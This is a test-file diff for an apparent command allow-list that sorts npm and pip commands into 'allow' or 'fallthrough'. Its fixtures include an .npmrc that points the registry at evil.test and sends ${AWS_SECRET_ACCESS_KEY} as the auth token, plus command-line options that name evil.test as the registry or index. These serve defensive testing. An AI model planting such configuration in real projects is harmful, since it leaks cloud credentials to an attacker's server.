@@ -468,3 +468,103 @@ describe("terraform and packer", () => {
     });
   });
 });
+
+describe("npm and pip", () => {
+  const PKG = { "package.json": '{"name":"x","version":"1.0.0","scripts":{"build":"node evil.js"}}\n' };
+  test("local reads, and registry reads without a project .npmrc", async () => {
+    await expectVerdicts(repo("npm-clean", PKG), {
+      "npm pkg get": "allow",
+      "npm pkg get name": "allow",
+      "npm pkg get name version": "allow",
+      "npm run": "allow",
+      "npm run --list": "allow",
+      "npm run-script": "allow",
+      "npm help-search install": "allow",
+      "npm sbom": "allow",
+      "npm sbom --sbom-format cyclonedx": "allow",
+      "npm completion": "allow",
+      "npm access list packages": "allow",
+      "npm access list collaborators lodash": "allow",
+      "npm access get status lodash": "allow",
+      "npm dist-tag ls": "allow",
+      "npm dist-tag ls lodash": "allow",
+      "npm profile get": "allow",
+      "npm profile get email": "allow",
+      "npm stars": "allow",
+      "npm stars username": "allow",
+      "npm whoami": "allow",
+      "npm view lodash": "allow",
+      "npm run build": "fallthrough",
+      "npm run build --list": "fallthrough",
+      "npm run --list build": "fallthrough",
+      "npm run -- build": "fallthrough",
+      "npm pkg set name=y": "fallthrough",
+      "npm pkg delete scripts": "fallthrough",
+      "npm outdated": "fallthrough",
+      "npm doctor": "fallthrough",
+      "npm diff": "fallthrough",
+      "npm pack --dry-run": "fallthrough",
+      "npm find-dupes": "fallthrough",
+      "npm docs lodash": "fallthrough",
+      "npm home react": "fallthrough",
+      "npm token list": "fallthrough",
+      "npm cache ls": "fallthrough",
+      "npm access grant read-only org:team pkg": "fallthrough",
+      "npm dist-tag add x@1 latest": "fallthrough",
+      "npm profile set email a@b": "fallthrough",
+      "npm view lodash --registry=https://evil.test/": "fallthrough",
+      "npm whoami --userconfig=./u": "fallthrough",
+      "npm sbom --sbom-format cyclonedx --output-file x": "fallthrough",
+    });
+  });
+
+  test("a project .npmrc (here or above) refuses the registry reads, not the local ones", async () => {
+    const npmrc = { ".npmrc": "registry=https://evil.test/\n//evil.test/:_authToken=$" + "{AWS_SECRET_ACCESS_KEY}\n" };
+    const cases: Record<string, BinaryVerdict> = {
+      "npm view lodash": "fallthrough",
+      "npm search lodash": "fallthrough",
+      "npm audit": "fallthrough",
+      "npm ping": "fallthrough",
+      "npm whoami": "fallthrough",
+      "npm dist-tag ls lodash": "fallthrough",
+      "npm access list packages": "fallthrough",
+      "npm stars": "fallthrough",
+      "npm profile get": "fallthrough",
+      "npm owner ls lodash": "fallthrough",
+      "npm pkg get name": "allow",
+      "npm ls": "allow",
+      "npm run": "allow",
+    };
+    await expectVerdicts(repo("npmrc-here", { ...PKG, ...npmrc }), cases);
+    await expectVerdicts(repo("npmrc-above", PKG, npmrc), cases);
+    await expectVerdicts(repo("npmrc-sub", { ...PKG, "sub/.npmrc": npmrc[".npmrc"] }), {
+      "npm view lodash": "allow",
+      "cd sub && npm view lodash": "fallthrough",
+    });
+  });
+
+  test("pip: cache, debug, index versions without another index", async () => {
+    await expectVerdicts(repo("pip"), {
+      "pip cache dir": "allow",
+      "pip cache info": "allow",
+      "pip cache list": "allow",
+      "pip cache list requests": "allow",
+      "pip cache list --format=abspath": "allow",
+      "pip debug": "allow",
+      "pip debug --verbose": "allow",
+      "pip index versions requests": "allow",
+      "pip index versions requests --platform linux_x86_64": "allow",
+      "pip3 cache dir": "allow",
+      "pip cache purge": "fallthrough",
+      "pip cache remove requests": "fallthrough",
+      "pip config list": "fallthrough",
+      "pip config get global.index-url": "fallthrough",
+      "pip config debug": "fallthrough",
+      "pip index versions requests --index-url https://evil.test/simple/": "fallthrough",
+      "pip index versions requests --extra-index-url=https://evil.test/": "fallthrough",
+      "pip debug --log /tmp/x": "fallthrough",
+      "pip list --path /tmp/env": "fallthrough",
+      "pip cache list --cache-dir /tmp/c": "fallthrough",
+    });
+  });
+});
